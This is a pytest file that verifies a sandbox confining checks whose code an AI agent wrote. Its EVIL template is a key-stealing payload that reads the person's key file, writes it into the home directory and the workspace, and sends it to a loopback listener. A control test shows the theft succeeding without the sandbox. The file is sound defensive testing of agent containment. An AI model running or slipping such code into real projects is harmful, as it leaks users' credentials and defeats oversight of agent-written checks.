"""The Stop never runs the agent's code as the person (docs/TRUST.md): a check whose code the agent
wrote (here its test script) runs, with its replays, behind the wall. It cannot read the person's
key, reach the network, write the person's home or the live workspace from a replay; `vacant
check` on the live workspace keeps the same wall. Each attempt below succeeds when run without the
wall (the control), so each assertion can fail."""

from __future__ import annotations

import socket
import subprocess
import sys
import threading
from pathlib import Path

import pytest
from step_histories import record_steps

from vacant.attribute.stop import Pipeline
from vacant.core.keys import key_path
from vacant.core.locations import mark_installed
from vacant.policy.contract.acceptance import run_gates
from vacant.policy.contract.contract import load_contract

pytestmark = [pytest.mark.slow, pytest.mark.disk_tmp]

EVIL = '''\
import os, socket, sys
key = {key!r}
try:
    stolen = open(key, "rb").read().hex()
except OSError as error:
    stolen = "unreadable: " + type(error).__name__
for target in ({live!r}, {home!r}):
    try:
        with open(target, "w") as handle:
            handle.write(stolen)
    except OSError:
        pass
try:
    with socket.create_connection(("127.0.0.1", {port}), timeout=2) as connection:
        connection.sendall(stolen.encode())
except OSError:
    pass
sys.exit(1)
'''


class Listener:
    """A server on the host's loopback that keeps whatever it is sent."""

    def __init__(self) -> None:
        self.server = socket.create_server(("127.0.0.1", 0))
        self.port = self.server.getsockname()[1]
        self.received: list[bytes] = []
        self.thread = threading.Thread(target=self._serve, daemon=True)
        self.thread.start()

    def _serve(self) -> None:
        while True:
            try:
                connection, _ = self.server.accept()
            except OSError:
                return
            with connection:
                self.received.append(connection.recv(65536))

    def close(self) -> None:
        self.server.close()


@pytest.fixture
def attack(isolated_home, tmp_path):
    root = tmp_path / "ws"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    mark_installed(root)
    listener = Listener()
    targets = {"live": root / "stolen.txt", "home": isolated_home / "stolen.txt"}
    evil = EVIL.format(key=str(key_path()), port=listener.port, live=str(targets["live"]), home=str(targets["home"]))
    (root / "test_it.py").write_text("import sys\nsys.exit(0)\n")
    (root / "vacant.toml").write_text(f'[[check]]\nname = "suite"\ncommand = "{sys.executable} test_it.py"\n')
    yield root, evil, targets, listener
    listener.close()


def _held(targets: dict[str, Path], listener: Listener, secret: str) -> None:
    assert not targets["home"].exists(), "the check wrote the person's home"
    assert not any(secret in data.decode(errors="replace") for data in listener.received), "the key left by network"
    assert not listener.received, "the check reached the host's network"


def test_the_agents_test_code_runs_walled_at_stop_and_in_its_replays(attack):
    root, evil, targets, listener = attack
    run_dir = record_steps(root, [{"test_it.py": evil}])  # the agent rewrote the test the check runs
    report = Pipeline(root, run_dir, load_contract(root), budget_s=600).run()
    assert report["walled"] == {"walled": True, "why": None}
    assert report["check_runs"] >= 2  # the final state and the baseline at least
    assert not targets["live"].exists(), "a replay wrote the live workspace"
    _held(targets, listener, key_path().read_bytes().hex())


def test_vacant_check_on_the_live_workspace_runs_walled(attack):
    root, evil, targets, listener = attack
    (root / "test_it.py").write_text(evil)
    report = run_gates(load_contract(root), root)
    assert [check.walled for check in report.checks] == [True]
    assert "unreadable" in targets["live"].read_text()  # the workspace is writable; the key is not there
    _held(targets, listener, key_path().read_bytes().hex())


def test_the_control_without_the_wall_steals_the_key(attack, monkeypatch):
    """The same attack with no site (as before the wall held at Stop): every assertion above fails."""
    from vacant.policy.contract import acceptance

    root, evil, targets, listener = attack
    (root / "test_it.py").write_text(evil)
    monkeypatch.setattr(acceptance, "site_for", lambda *_a, **_k: None)
    report = run_gates(load_contract(root), root)
    assert [check.walled for check in report.checks] == [False]
    secret = key_path().read_bytes().hex()
    assert targets["home"].read_text() == secret
    listener.thread.join(timeout=0.5)
    assert any(secret in data.decode() for data in listener.received)


def test_the_checks_cache_is_writable_where_the_data_directory_is_read_only(tmp_path, monkeypatch, isolated_home):
    """vacant's data directory inside the workspace is read-only behind the wall; the checks' own
    cache below it (GOCACHE, XDG_CACHE_HOME, and uv's and pip's even where the person's environment
    names caches of theirs) stays writable, as a Go test or `uv run` needs."""
    from vacant.policy.contract.checks import run_command, site_for

    root = tmp_path / "ws"
    root.mkdir()
    subprocess.run(["git", "init", "-q", str(root)], check=True)
    monkeypatch.setenv("VACANT_HOME", str(root / ".vacant-data"))
    for name in ("UV_CACHE_DIR", "PIP_CACHE_DIR"):  # the person's own: read-only behind the wall
        monkeypatch.setenv(name, str(tmp_path / "person-cache" / name))
    mark_installed(root)
    site = site_for(root)
    result = run_command('mkdir -p "$GOCACHE" "$UV_CACHE_DIR" "$PIP_CACHE_DIR" && touch "$GOCACHE/x" "$UV_CACHE_DIR/x" '
                         '"$PIP_CACHE_DIR/x" && touch "$XDG_CACHE_HOME/y" && ! touch .vacant-data/z', root, 30, root,
                         site=site)
    assert result.exit_code == 0, result.output
